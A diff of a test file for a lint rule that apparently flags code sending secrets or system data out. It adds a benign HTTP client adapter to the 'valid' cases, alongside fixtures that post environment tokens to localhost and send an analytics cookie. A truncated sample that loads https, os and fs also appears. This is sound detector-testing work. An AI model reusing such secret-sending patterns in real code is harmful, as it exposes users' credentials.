@@ -5,6 +5,7 @@ const N = 'const https = require("https"), os = require("os"), fs = require("fs"
 
 ruleTester(rule, {
   valid: [
+    { name: 'an HTTP client adapter', code: 'const http = require("http"), https = require("https");\nmodule.exports = function httpAdapter(config) {\n  return new Promise((resolve, reject) => {\n    const options = { hostname: config.host, path: config.path, method: config.method, headers: config.headers, auth: config.auth };\n    const transport = config.protocol === "https:" ? https : http;\n    const req = transport.request(options, resolve);\n    req.on("error", reject);\n    if (config.data) req.write(config.data);\n    req.end();\n  });\n};' },
     'const dns = require("dns/promises"), os = require("os");\nawait dns.lookup(os.hostname());',
     'fetch("http://localhost:9000/envelope", { method: "POST", body: JSON.stringify({ a: process.env.SENTRY_AUTH_TOKEN, b: process.env.TEST_SECRET }) });',
     { name: 'analytics sends one named cookie', code: 'const cid = document.cookie.match(/_ga=([^;]+)/)[1];\nnew Image().src = "https://www.google-analytics.com/collect?cid=" + cid;' },
